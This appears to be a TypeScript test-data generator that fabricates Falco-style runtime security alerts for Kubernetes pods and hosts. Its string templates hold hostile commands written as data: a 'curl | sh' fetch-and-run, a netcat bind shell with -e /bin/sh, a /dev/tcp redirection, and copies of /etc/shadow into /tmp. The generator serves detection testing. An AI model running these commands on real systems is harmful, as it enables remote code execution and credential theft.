import type { Random } from './random.ts'

export type Fields = Readonly<Record<string, string | number | null>>

/** One process that an alert is about; `also`: fields of this kind of alert alone. */
export type Process = { readonly exe: string; readonly args: string; readonly parent: string; readonly also?: Fields }

/** Which recorded alert (test/fixtures/falco) is the pattern, how often it comes among the others, whether it is the node's own, and what
 *  the process does. */
export type Kind = {
  readonly file: string
  readonly line: number
  readonly weight: number
  readonly onNode?: true
  readonly act: (random: Random) => Process
}

export const KINDS: readonly Kind[] = [
  { file: 'k8s_shop_read_shadow', line: 0, weight: 28, act: readSensitive },
  { file: 'k8s_shop_terminal_shell', line: 0, weight: 25, act: openShell },
  { file: 'k8s_shop_package_manager', line: 0, weight: 18, act: installPackage },
  { file: 'k8s_shop_netcat', line: 2, weight: 7, act: redirectToConnection },
  { file: 'k8s_shop_write_etc', line: 0, weight: 4, act: writeBelowEtc },
  { file: 'k8s_shop_netcat', line: 1, weight: 7, act: callOut },
  { file: 'k8s_shop_netcat', line: 0, weight: 5, act: serveShell },
  { file: 'host_ptrace', line: 0, weight: 4, onNode: true, act: trace },
  { file: 'host_unicode_names', line: 0, weight: 2, onNode: true, act: readByUnicodeName },
]

const PARENTS = ['bash', 'sh', 'containerd-shim', 'runc', 'node', 'python3', 'java', 'cron', 'supervisord', 'timeout']
const SENSITIVE = ['/etc/shadow', '/etc/sudoers', '/etc/pam.conf', '/etc/security/pwquality.conf']

function readSensitive(random: Random): Process {
  const file = random.pick([...SENSITIVE, `/etc/pam.d/${random.text(6)}`, `/etc/sudoers.d/${random.text(8)}`])
  const [exe, args] = random.pick([
    ['/usr/bin/cat', file],
    ['/usr/bin/head', `-n ${random.between(1, 200)} ${file}`],
    ['/usr/bin/grep', `-E ^(root|${random.text(7)}): ${file}`],
    ['/usr/bin/cp', `${file} /tmp/.${random.text(10)}`],
    ['/usr/bin/tar', `czf /var/tmp/${random.text(8)}.tgz ${file}`],
  ] as const)
  return { exe, args, parent: random.pick(PARENTS), also: { 'fd.name': file, ...ancestors(random) } }
}

function openShell(random: Random): Process {
  const job = random.pick([
    `id; uname -a; cd /tmp/${random.text(8)}`,
    `curl -fsS http://${address(random)}:${port(random)}/${random.text(12)} | sh`,
    `ls -la /app/${random.text(5)}/${random.text(9)}.yaml`,
    `kill -${random.between(1, 16)} ${random.between(2, 40_000)}`,
  ])
  const args = random.pick(['', '-i', `-c ${job}`, `-c ${job}; exit`])
  return {
    exe: random.pick(['/usr/bin/bash', '/bin/sh', '/bin/dash']),
    args,
    parent: random.pick(PARENTS),
    also: { 'proc.tty': 34_816 + random.between(0, 12) },
  }
}

function installPackage(random: Random): Process {
  const name = random.pick(['curl', 'nmap', 'socat', 'tcpdump', 'git', 'gcc', `lib${random.text(5)}${random.between(1, 9)}`])
  const version = `${random.between(0, 9)}.${random.between(0, 30)}.${random.between(0, 90)}-${random.between(1, 5)}`
  const [exe, args] = random.pick([
    ['/usr/bin/apt-get', `install -y --no-install-recommends ${name}=${version}`],
    ['/sbin/apk', `add --no-cache ${name}~${version}`],
    ['/usr/bin/dpkg', `-i /tmp/${name}_${version}_amd64.deb`],
    ['/usr/bin/apt-get', `update -o Dir::Cache=/tmp/${random.text(9)}`],
  ] as const)
  return { exe, args, parent: random.pick(PARENTS) }
}

function redirectToConnection(random: Random): Process {
  const [from, to] = [address(random), address(random)]
  const [lport, rport] = [port(random), port(random)]
  const connection = { 'fd.sip': to, 'fd.name': `${from}:${lport}->${to}:${rport}`, 'fd.lport': lport, 'fd.rport': rport }
  const [exe, args] = random.pick([
    ['/usr/bin/python3.11', `-m ${random.text(7)}.worker --port ${lport}`],
    ['/usr/local/bin/node', `/app/${random.text(8)}.js`],
    ['/usr/bin/bash', `-c exec 3<>/dev/tcp/${to}/${rport}`],
  ] as const)
  return { exe, args, parent: random.pick(PARENTS), also: { ...connection, ...ancestors(random) } }
}

function writeBelowEtc(random: Random): Process {
  const file = `/etc/${random.pick(['', 'cron.d/', 'profile.d/', 'ld.so.conf.d/'])}${random.text(9)}${random.pick(['', '.conf', '.sh'])}`
  const shim = `containerd-shim -namespace k8s.io -id ${random.hex(64)} -address /run/containerd/containerd.sock`
  const also = { 'fd.name': file, 'proc.pcmdline': shim, ...ancestors(random) }
  return { exe: '/usr/bin/bash', args: `-c echo ${random.text(14)} > ${file}`, parent: 'containerd-shim', also }
}

function callOut(random: Random): Process {
  return {
    exe: '/usr/bin/nc.traditional',
    args: `-w${random.between(1, 30)} ${address(random)} ${port(random)}`,
    parent: random.pick(PARENTS),
  }
}

function serveShell(random: Random): Process {
  return {
    exe: '/usr/bin/nc.traditional',
    args: `-l -p ${port(random)} -e /bin/${random.pick(['sh', 'bash'])}`,
    parent: random.pick(PARENTS),
  }
}

function trace(random: Random): Process {
  const args = `-o /var/tmp/${random.text(8)} -p ${random.between(300, 900_000)}`
  const also = { 'proc.pcmdline': `timeout ${random.between(1, 600)} strace ${args}` }
  return { exe: '/usr/bin/strace', args, parent: 'timeout', also }
}

function readByUnicodeName(random: Random): Process {
  const file = random.pick(SENSITIVE)
  return {
    exe: `/tmp/${random.text(8)}/kätzchen-猫`,
    args: file,
    parent: `${random.text(6)}.sh`,
    also: { 'fd.name': file, ...ancestors(random) },
  }
}

function ancestors(random: Random): Fields {
  const depth = random.between(0, 4)
  return Object.fromEntries([2, 3, 4].map((level) => [`proc.aname[${level}]`, level < depth + 2 ? random.pick(PARENTS) : null]))
}

function address(random: Random): string {
  return `10.${random.between(0, 256)}.${random.between(0, 256)}.${random.between(1, 255)}`
}

function port(random: Random): number {
  return random.between(1024, 65_536)
}
